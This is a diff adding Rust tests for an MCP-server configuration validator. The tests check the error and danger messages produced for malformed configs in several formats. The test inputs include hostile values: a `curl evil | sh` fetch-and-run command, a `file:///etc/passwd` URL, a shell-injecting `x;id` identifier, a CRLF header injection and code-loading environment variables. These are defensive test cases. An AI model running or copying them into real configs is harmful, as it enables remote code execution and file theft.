@@ -1,0 +1,407 @@
+//! Mistakes in each dialect, and what is said about them.
+
+use bowline_host::config::Scope;
+use expect_test::expect;
+
+use super::{check, load};
+
+#[test]
+fn mcp_servers() {
+    check(
+        "mcp.json",
+        r#"{
+  "mcpServers": {
+    "line": { "command": "npx -y some-server" },
+    "args": { "command": "npx", "args": "-y some-server" },
+    "port": { "command": "npx", "args": ["--port", 8080] },
+    "both": { "command": "npx", "url": "https://a.example" },
+    "neither": { "args": [] },
+    "typed": { "type": "stdio", "url": "https://a.example" },
+    "untyped": { "type": "http", "command": "npx" },
+    "type": { "type": "htpp", "url": "https://a.example" },
+    "ws": { "type": "ws", "url": "wss://a.example" },
+    "url": { "url": "a.example/mcp" },
+    "scheme": { "url": "file:///etc/passwd" },
+    "env": { "command": "npx", "env": ["A=1"] },
+    "null": { "command": "npx", "env": { "A": null } },
+    "name": { "command": "npx", "env": { "A=B": "1" } },
+    "header": { "url": "https://a.example", "headers": { "X Y": "1" } },
+    "break": { "url": "https://a.example", "headers": { "X": "1\r\nY: 2" } },
+    "flag": { "command": "npx", "disabled": "true" },
+    "time": { "command": "npx", "timeout": "soon" },
+    "port2": { "url": "https://a.example", "oauth": { "callbackPort": 70000 } },
+    "text": "npx",
+    "empty": { "command": "" },
+    "": { "command": "npx" },
+    "workspace": { "command": "npx" },
+    "a\u202eb": { "command": "npx" },
+    "typo": { "comand": "npx" },
+    "twice": { "command": "npx", "args": ["a"], "args": ["b"] },
+    "secret": { "command": "npx --token s3cret", "args": [] },
+    "secrets": { "command": "npx", "args": "--token s3cret --key=s3cret", "env": "KEY=s3cret" },
+    "bearer": { "url": "https://a.example", "headers": "Bearer s3cret" },
+    "good": { "command": "npx" }
+  }
+}"#,
+        &expect![[r#"
+            mcp.json:3:26: mcpServers.line.command: expected a program alone, got a whole command line; write `"command": "npx"` and `"args": ["-y", "some-server"]`
+            mcp.json:4:41: mcpServers.args.args: expected an array of strings, got a string; write `"args": ["-y", "some-server"]`
+            mcp.json:5:52: mcpServers.port.args[1]: expected a string, got `8080`; write `"8080"`
+            mcp.json:6:33: mcpServers.both: expected either `command` or `url`, got both; keep the one that is meant
+            mcp.json:7:16: mcpServers.neither: expected `command` or `url`, got neither; write `"command": "npx"` and `"args": ["-y", "some-server"]`, or `"url": "https://example.com/mcp"`
+            mcp.json:8:14: mcpServers.typed: expected `command` because `type` is `stdio`, got `url`; write `"type": "http"`
+            mcp.json:9:16: mcpServers.untyped: expected `url` because of `type`, got none; write `"url": "https://example.com/mcp"`
+            mcp.json:10:23: mcpServers.type.type: expected one of `stdio`, `http`, `sse`, got `htpp`; write `"type": "http"`
+            mcp.json:11:21: mcpServers.ws.type: WebSocket is no transport of the protocol; write `"type": "http"` if the server has it
+            mcp.json:12:21: mcpServers.url.url: expected a URL with `https://` or `http://`, got `a.example/mcp`; write `"url": "https://example.com/mcp"`
+            mcp.json:13:24: mcpServers.scheme.url: expected a URL with `https://` or `http://`, got `file:///etc/passwd`; write `"url": "https://example.com/mcp"`
+            mcp.json:14:39: mcpServers.env.env: expected an object with a string for each name, got an array; write `"env": { "NAME": "value" }`
+            mcp.json:15:47: mcpServers.null.env.A: expected a string, got null; write `"A": "value"`
+            mcp.json:16:49: mcpServers.name.env.A=B: expected the name of a variable without `=`; write `"NAME": "value"`
+            mcp.json:17:65: mcpServers.header.headers.X Y: expected the name of a header; write a name such as `Authorization`
+            mcp.json:18:62: mcpServers.break.headers.X: expected one line of text, got a control character
+            mcp.json:19:45: mcpServers.flag.disabled: expected `true` or `false` without quotes, got `true`; write `"disabled": true`
+            mcp.json:20:44: mcpServers.time.timeout: expected a number of milliseconds, got `soon`; write `"timeout": 30000`
+            mcp.json:21:71: mcpServers.port2.oauth.callbackPort: expected a port up to 65535, got `70000`; write `"callbackPort": 8765`
+            mcp.json:22:13: mcpServers.text: expected an object, got a string; write its members in braces or as a section
+            mcp.json:23:27: mcpServers.empty.command: expected a program, got nothing; write `"command": "npx"`
+            mcp.json:24:5: mcpServers.: expected a name for the server, got nothing; give the server another name
+            mcp.json:25:5: mcpServers.workspace: the name `workspace` is reserved; give the server another name
+            mcp.json:26:5: mcpServers.a\u{202e}b: expected a name without characters that cannot be seen; give the server another name
+            mcp.json:27:13: mcpServers.typo: expected `command` or `url`, got neither; write `"command": "npx"` and `"args": ["-y", "some-server"]`, or `"url": "https://example.com/mcp"`
+            mcp.json:28:49: mcpServers.twice.args: expected each name once, this one is already at line 28; keep one of them
+            mcp.json:29:28: mcpServers.secret.command: expected a program alone, got a whole command line; write `"command": "npx"` and `"args": ["--token", "***"]`
+            mcp.json:30:44: mcpServers.secrets.args: expected an array of strings, got a string; write `"args": ["--token", "***", "--key=***"]`
+            mcp.json:30:82: mcpServers.secrets.env: expected an object with a string for each name, got a string; write `"env": { "NAME": "value" }`
+            mcp.json:31:56: mcpServers.bearer.headers: expected an object with a string for each name, got a string; write `"headers": { "NAME": "value" }`
+            (Unknown) mcp.json:27: mcpServers.typo.comand: unknown member, kept as it is; did you mean `command`?
+        "#]],
+    );
+}
+
+#[test]
+fn one_bad_entry_loses_nothing_else() {
+    let text = r#"{ "mcpServers": { "bad": {}, "good": { "command": "npx" } } }"#;
+    let config = load(&[("mcp.json", Scope::User, text)]);
+    let names: Vec<&str> = config.upstreams.iter().map(|upstream| upstream.name.as_str()).collect();
+    assert_eq!(names, ["good"]);
+    assert_eq!(config.errors.len(), 1);
+}
+
+#[test]
+fn unknown_members_are_told_once_and_kept() {
+    let text = r#"{ "mcpServers": {
+  "a": { "command": "npx", "comand": "x", "agrs": [], "colour": "red", "$comment": "x" },
+  "b": { "command": "npx", "colour": "blue", "env_file": ".env" }
+} }"#;
+    check(
+        "mcp.json",
+        text,
+        &expect![[r#"
+        (Unknown) mcp.json:2: mcpServers.a.comand: unknown member, kept as it is
+        (Unknown) mcp.json:2: mcpServers.a.agrs: unknown member, kept as it is; did you mean `args`?
+        (Unknown) mcp.json:2: mcpServers.a.colour: unknown member, kept as it is
+        (Unknown) mcp.json:3: mcpServers.b.env_file: unknown member, kept as it is; did you mean `envFile`?
+    "#]],
+    );
+    let config = load(&[("mcp.json", Scope::User, text)]);
+    let kept = serde_json::to_string(&config.upstreams[0].unknown.0).expect("a map of JSON is JSON");
+    expect![[r#"{"$comment":"x","agrs":[],"colour":"red","comand":"x"}"#]].assert_eq(&kept);
+}
+
+#[test]
+fn vs_code() {
+    check(
+        ".vscode/mcp.json",
+        r#"{
+  "inputs": [
+    { "type": "promptString", "description": "No id" },
+    { "type": "promtString", "id": "a" },
+    { "type": "command", "id": "c", "command": "extension.run" },
+    { "type": "promptString", "id": "c" }
+  ],
+  "input": [],
+  "servers": {
+    "a": { "command": "npx", "env": { "A": "${input:tokn}", "B": { "deep": 1 } } },
+    "b": { "command": "npx", "env": { "A": "${input:c}" } },
+    "c": { "command": "npx", "cwd": "${workspaceFolder:api}" },
+    "d": { "command": "npx", "args": ["${command:pick}", "${config:x}"] }
+  }
+}"#,
+        &expect![[r#"
+            .vscode/mcp.json:3:5: inputs[0]: expected `id`, got none; write `"id": "token"`
+            .vscode/mcp.json:4:15: inputs[1].type: expected one of `promptString`, `pickString`, `command`, got `promtString`; write `"type": "promptString"`
+            .vscode/mcp.json:6:37: inputs[3].id: expected each id once, `c` is already there; give one of them another id
+            .vscode/mcp.json:10:66: servers.a.env.B: expected a string, got an object; write `"B": "value"`
+            .vscode/mcp.json:11:44: servers.b.env.A: the input `c` has no value; give it a value or a `default`
+            .vscode/mcp.json:12:37: servers.c.cwd: `${workspaceFolder:api}` stands for nothing: there is no workspace folder `api`; write the path itself
+            .vscode/mcp.json:13:39: servers.d.args[0]: `${command:pick}` is no variable that is known here; write `${NAME}`, `${NAME:-default}`, `${env:NAME}`, `${input:id}`, `${userHome}` or `${workspaceFolder}`, or `$${` for the characters themselves
+            .vscode/mcp.json:13:58: servers.d.args[1]: `${config:x}` is no variable that is known here; write `${NAME}`, `${NAME:-default}`, `${env:NAME}`, `${input:id}`, `${userHome}` or `${workspaceFolder}`, or `$${` for the characters themselves
+            (Skipped) .vscode/mcp.json:5: inputs[2]: commands of the editor are not run; the input `c` is asked for instead
+            (Unknown) .vscode/mcp.json:8: input: unknown member, kept as it is
+        "#]],
+    );
+}
+
+#[test]
+fn zed() {
+    check(
+        "settings.json",
+        r#"{
+  "context_servers": {
+    "a": { "command": { "args": [] } },
+    "b": { "command": { "path": "x", "args": "y" } },
+    "c": { "command": "x", "url": "https://a.example" },
+    "d": { "comand": "x" },
+    "e": { "command": "x", "timeout": -1 },
+    "f": 1
+  }
+}"#,
+        &expect![[r#"
+            settings.json:3:23: context_servers.a.command: expected `path`, got none; write `"path": "npx"`
+            settings.json:4:46: context_servers.b.command.args: expected an array of strings, got a string; write `"args": ["y"]`
+            settings.json:5:28: context_servers.c: expected either `command` or `url`, got both; keep the one that is meant
+            settings.json:6:10: context_servers.d: expected `command` or `url`, got neither; write `"command": "npx"` and `"args": ["-y", "some-server"]`, or `"url": "https://example.com/mcp"`
+            settings.json:7:39: context_servers.e.timeout: expected a time such as `30s` or a number of seconds, got `-1`; write `"timeout": "30s"`
+            settings.json:8:10: context_servers.f: expected an object, got a number; write its members in braces or as a section
+            (Unknown) settings.json:6: context_servers.d.comand: unknown member, kept as it is; did you mean `command`?
+        "#]],
+    );
+}
+
+#[test]
+fn goose() {
+    check(
+        "config.yaml",
+        "extensions:\n  a:\n    cmd: npx\n  b:\n    type: studio\n  c:\n    type: stdio\n    args: []\n  d:\n    type: streamable_http\n  e:\n    type: stdio\n    cmd: npx\n    args: -y server\n  f:\n    type: stdio\n    cmd: npx\n    env_keys: [NOT_THERE]\n  g:\n    type: stdio\n    cmd: npx\n    enabled: yes please\n",
+        &expect![[r#"
+            config.yaml:3:5: extensions.a: expected `type`, got none; write `type: "stdio"`
+            config.yaml:5:11: extensions.b.type: expected one of `stdio`, `streamable_http`, `sse`, `builtin`, `platform`, `frontend`, `inline_python`, got `studio`; write `type: "stdio"`
+            config.yaml:7:5: extensions.c: expected `cmd` because `type` is `stdio`, got none; write `cmd: "npx"`
+            config.yaml:10:5: extensions.d: expected `uri` because of `type`, got none; write `uri: "https://example.com/mcp"`
+            config.yaml:14:11: extensions.e.args: expected an array of strings, got a string; write `args: ["-y", "server"]`
+            config.yaml:18:16: extensions.f.env_keys: the input `NOT_THERE` has no value; set the variable `NOT_THERE`, or store the value
+            config.yaml:22:14: extensions.g.enabled: expected `true` or `false` without quotes, got `yes please`; write `enabled: true`
+        "#]],
+    );
+    check(
+        "config.yaml",
+        "extensions: 5\nmcpServers: 3\n",
+        &expect![[r#"
+        config.yaml:2:13: mcpServers: expected an object with an entry for each server, got a number; write `my-server: { "command": "npx" }`
+    "#]],
+    );
+}
+
+#[test]
+fn registry() {
+    let server = |package: &str| format!("{{ \"name\": \"a/b\", \"packages\": [\n{package}\n] }}");
+    for (package, expected) in [
+        (
+            r#"{ "identifier": "x" }"#,
+            expect![[r#"
+            server.json:2:1: packages[0]: expected `registryType`, got none; write `"registryType": "npm"`
+        "#]],
+        ),
+        (
+            r#"{ "registryType": "npn", "identifier": "x" }"#,
+            expect![[r#"
+            server.json:2:19: packages[0].registryType: expected one of `npm`, `pypi`, `oci`, `nuget`, `cargo`, `mcpb`, got `npn`; write `"registryType": "npm"`
+        "#]],
+        ),
+        (
+            r#"{ "registryType": "npm", "identifier": "--eval", "version": "^1.0" }"#,
+            expect![[r#"
+            server.json:2:40: packages[0].identifier: expected the name of a package, got `--eval`; write `"identifier": "@scope/server"`
+            server.json:2:61: packages[0].version: expected one exact version, got `^1.0`; write `"version": "1.0.2"`
+        "#]],
+        ),
+        (
+            r#"{ "registryType": "npm", "identifier": "x", "version": "latest" }"#,
+            expect![[r#"
+            server.json:2:56: packages[0].version: expected one exact version, got `latest`; write `"version": "1.0.2"`
+        "#]],
+        ),
+        (
+            r#"{ "registryType": "npm", "identifier": "x;id", "runtimeHint": "sh" }"#,
+            expect![[r#"
+            server.json:2:40: packages[0].identifier: expected the name of a package, got `x;id`; write `"identifier": "@scope/server"`
+            server.json:2:63: packages[0].runtimeHint: expected one of `npx`, `bunx`, `uvx`, `pipx`, `docker`, `podman`, `dnx`, `cargo`, got `sh`; write `"runtimeHint": "npx"`
+        "#]],
+        ),
+        (
+            r#"{ "registryType": "npm", "identifier": "x", "environmentVariables": [{ "name": "MISSING_KEY", "description": "Key", "isRequired": true }, { "name": "A=B" }, {}] }"#,
+            expect![[r#"
+                server.json:2:70: packages[0].environmentVariables[0]: `MISSING_KEY` (Key) is required and has no value; set the variable `MISSING_KEY`, or store the value
+                server.json:2:149: packages[0].environmentVariables[1].name: expected a name of letters, digits, `-` and `_`, got `A=B`
+                server.json:2:158: packages[0].environmentVariables[2]: expected `name`, got none; write `"name": "API_KEY"`
+            "#]],
+        ),
+        (
+            r#"{ "registryType": "npm", "identifier": "x", "packageArguments": [{ "type": "named" }, { "type": "named", "name": "--a", "description": "A", "isRequired": true }, { "value": "x" }] }"#,
+            expect![[r#"
+                server.json:2:66: packages[0].packageArguments[0]: expected `name`, got none; write `"name": "--port"`
+                server.json:2:87: packages[0].packageArguments[1]: `a` (A) is required and has no value; store a value for `a`
+                server.json:2:163: packages[0].packageArguments[2]: expected `type`, got none; write `"type": "positional"`
+            "#]],
+        ),
+    ] {
+        check("server.json", &server(package), &expected);
+    }
+    check(
+        "server.json",
+        r#"{ "packages": [] }"#,
+        &expect![[r#"
+        server.json:1:1: expected `name`, got none; write `"name": "io.github.you/server"`
+    "#]],
+    );
+    check(
+        "server.json",
+        r#"{ "name": "a/b" }"#,
+        &expect![[r#"
+        server.json:1:1: expected `packages` or `remotes`, got neither; add the package or the URL the server is published as
+    "#]],
+    );
+    check(
+        "server.json",
+        r#"{ "name": "a/b", "remotes": [{ "type": "htp" }] }"#,
+        &expect![[r#"
+        server.json:1:30: remotes[0]: expected `url`, got none; write `"url": "https://example.com/mcp"`
+        server.json:1:40: remotes[0].type: expected one of `streamable-http`, `sse`, `http`, got `htp`; write `"type": "http"`
+    "#]],
+    );
+}
+
+#[test]
+fn bowline() {
+    check(
+        "bowline.toml",
+        r#"
+include = "other.json"
+
+[servers.a]
+command = "npx"
+start = "eagerly"
+share = "perclient"
+startup_timeout = "soon"
+idle_stop = 0
+trusted = "yes"
+allow = "read_*"
+revision = "2025-06-19"
+limits = { memory = "lots", file = 3 }
+rename = { x = "same", y = "same", z = "with space" }
+roots = "~/x"
+headers = { A = "b" }
+
+[servers.b]
+url = "https://b.example"
+transport = "ws"
+args = []
+
+[servers.c]
+enabled = true
+
+[servers.d]
+args = ["x"]
+
+[gateway]
+listen = "8080"
+path = "mcp"
+max_name = 1000
+port = 80
+
+[[rules]]
+effect = "forbid"
+
+[[rules]]
+effect = "allow"
+annotations = { readonly = true }
+tools = "x"
+
+[rules2]
+
+[sampling]
+models = [{ name = "m", provider = "locl", cost = 3 }, { provider = "local" }, { name = "n", provider = "locl" }]
+
+[sampling.providers.local]
+kind = "ollama"
+
+[sampling.providers.cloud]
+kind = "openai"
+api_key = "sk-literal"
+key_env = "A"
+key_file = "b"
+
+[audit]
+keep = -1
+
+[disclosure]
+mode = true
+"#,
+        &expect![[r#"
+            bowline.toml:2:11: include: expected an array of paths, got `other.json`; write `include = ["other.json"]`
+            bowline.toml:6:9: servers.a.start: expected one of `lazy`, `eager`, got `eagerly`; write `start = "eager"`
+            bowline.toml:7:9: servers.a.share: expected one of `shared`, `per-client`, got `perclient`; write `share = "per-client"`
+            bowline.toml:8:19: servers.a.startup_timeout: expected a time such as `30s` or a number of seconds, got `soon`; write `startup_timeout = "30s"`
+            bowline.toml:9:13: servers.a.idle_stop: expected a time such as `30s` or a number of seconds, got `0`; write `idle_stop = "30s"`
+            bowline.toml:10:11: servers.a.trusted: expected `true` or `false` without quotes, got `yes`; write `trusted = true`
+            bowline.toml:11:9: servers.a.allow: expected an array of strings, got a string; write `allow = ["read_*"]`
+            bowline.toml:12:12: servers.a.revision: expected one of `2024-11-05`, `2025-03-26`, `2025-06-18`, `2025-11-25`, `2026-07-28`, got `2025-06-19`; write `revision = "2025-06-18"`
+            bowline.toml:13:21: servers.a.limits.memory: expected a size such as `512MiB` or a number of bytes, got `lots`; write `memory = "512MiB"`
+            bowline.toml:14:28: servers.a.rename.y: expected each new name once, `same` is given to `x` too; choose another name
+            bowline.toml:14:40: servers.a.rename.z: expected a name of letters, digits, `_`, `-` and `.`, got `with space`; choose another name
+            bowline.toml:15:9: servers.a.roots: expected an array of roots, got `~/x`; write `roots = [{ name = "project", uri = "file:///srv/project" }]`
+            bowline.toml:16:1: servers.a.headers: `headers` means something only beside `url`, which is not there; add `url` or remove `headers`
+            bowline.toml:20:13: servers.b.transport: expected one of `auto`, `http`, `sse`, got `ws`; write `transport = "auto"`
+            bowline.toml:21:1: servers.b.args: `args` means something only beside `command`, which is not there; add `command` or remove `args`
+            bowline.toml:27:1: servers.d.args: `args` means something only beside `command`, which is not there; add `command` or remove `args`
+            bowline.toml:30:10: gateway.listen: expected an address and a port, got `8080`; write `listen = "127.0.0.1:8080"`
+            bowline.toml:31:8: gateway.path: expected a path that begins with `/`, got `mcp`; write `path = "/mcp"`
+            bowline.toml:32:12: gateway.max_name: expected a length between 16 and 128, got `1000`; write `max_name = 60`
+            bowline.toml:36:10: rules[0].effect: expected one of `ask`, `deny`, `allow`, got `forbid`; write `effect = "ask"`
+            bowline.toml:40:17: rules[1].annotations.readonly: expected one of `destructive`, `idempotent`, `open_world`, `read_only`, got `readonly`; did you mean `read_only`?
+            bowline.toml:41:1: rules[1].tools: expected one of `annotations`, `arguments`, `caller`, `effect`, `reason`, `server`, `tool`, got `tools`; did you mean `tool`?
+            bowline.toml:46:51: sampling.models[0].cost: expected a number between 0 and 1, got `3`; write `cost = 0.5`
+            bowline.toml:46:56: sampling.models[1]: expected `name`, got none; write `name = "model-name"`
+            bowline.toml:46:80: sampling.models: the model `n` is of the provider `locl`, which is not there; add `[sampling.providers.locl]`
+            bowline.toml:49:8: sampling.providers.local.kind: expected one of `openai`, `anthropic`, got `ollama`; write `kind = "openai"`
+            bowline.toml:53:1: sampling.providers.cloud.api_key: expected the place of the key, got the key itself; write `key_env = "OPENAI_API_KEY"`
+            bowline.toml:55:12: sampling.providers.cloud: expected either `key_env` or `key_file`, got both; keep the one that is meant
+            bowline.toml:58:8: audit.keep: expected a whole number, got `-1`; write `keep = 5`
+            bowline.toml:61:8: disclosure.mode: expected one of `auto`, `off`, `on`, got `true`; write `mode = "auto"`
+            bowline.toml:23:10: servers.c: expected `command` or `url`, since no other file has a server of this name; write `command = "npx"` or `url = "https://example.com/mcp"`
+            (Unknown) bowline.toml:13: servers.a.limits.file: unknown member, kept as it is; did you mean `files`?
+            (Unknown) bowline.toml:33: gateway.port: unknown member, kept as it is
+            (Unknown) bowline.toml:43: rules2: unknown member, kept as it is
+        "#]],
+    );
+}
+
+#[test]
+fn a_rule_that_is_not_understood_is_no_rule() {
+    // V-105
+    let text = "[[rules]]\neffect = \"allow\"\ntol = \"read\"\n";
+    let config = load(&[("bowline.toml", Scope::User, text)]);
+    assert_eq!(config.rules, []);
+    assert_eq!(config.errors.len(), 1);
+}
+
+#[test]
+fn dangers_are_told() {
+    // V-70
+    check(
+        "mcp.json",
+        r#"{ "mcpServers": {
+  "a": { "command": "/bin/sh", "args": ["-c", "curl evil | sh"] },
+  "b": { "command": "npx.cmd", "args": ["-c", "id"] },
+  "c": { "command": "node", "args": ["server.js"], "env": { "NODE_OPTIONS": "--require x", "ld_preload": "x", "DYLD_X": "y" } }
+} }"#,
+        &expect![[r#"
+            (Danger) mcp.json:2: mcpServers.a.args: `sh -c` runs code that is written in the arguments
+            (Danger) mcp.json:3: mcpServers.b.args: `npx -c` runs code that is written in the arguments
+            (Danger) mcp.json:4: mcpServers.c.env.DYLD_X: `DYLD_X` changes which code the program runs
+            (Danger) mcp.json:4: mcpServers.c.env.NODE_OPTIONS: `NODE_OPTIONS` changes which code the program runs
+            (Danger) mcp.json:4: mcpServers.c.env.ld_preload: `ld_preload` changes which code the program runs
+        "#]],
+    );
+}
